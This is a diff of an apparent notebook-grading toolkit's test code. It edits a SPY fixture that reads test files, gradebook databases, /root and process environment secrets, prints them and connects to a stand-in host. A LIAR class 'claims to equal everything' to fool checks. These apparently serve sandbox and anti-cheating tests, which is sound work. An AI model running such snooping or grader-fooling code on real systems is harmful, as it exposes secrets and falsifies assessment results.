@@ -15,11 +15,11 @@ from nnkit.kit.authoring.notebook import notebook_text, release_notebook, solved
 from nnkit.kit.authoring.template import Template
 from nnkit.kit.authoring.verify import mistaken_notebook
 
-SPY = '''
+SPY = """
 import glob, os, socket
 loot = []
-for pattern in ("/**/test_*.py", "/**/*.h5", "/**/gradebook.db", "/**/course.toml", "/root/*", "/home/*"):
-    loot += glob.glob(pattern, recursive=True)[:20]
+for pattern in ("**/*.py", "../*", "/*", "/*/*/course.toml", "/*/*/gradebook.db", "/root/*", "/proc/*/environ"):
+    loot += glob.glob(pattern, recursive=True)[:60]
 for secret in loot:
     try:
         print(secret, open(secret, "rb").read(40))
@@ -27,7 +27,7 @@ for secret in loot:
         print(secret, error)
 print(dict(os.environ))
 socket.create_connection(("192.0.2.1", 80), timeout=2)
-'''
+"""
 LIAR = '''
 class Right:
     """Claims to equal everything."""
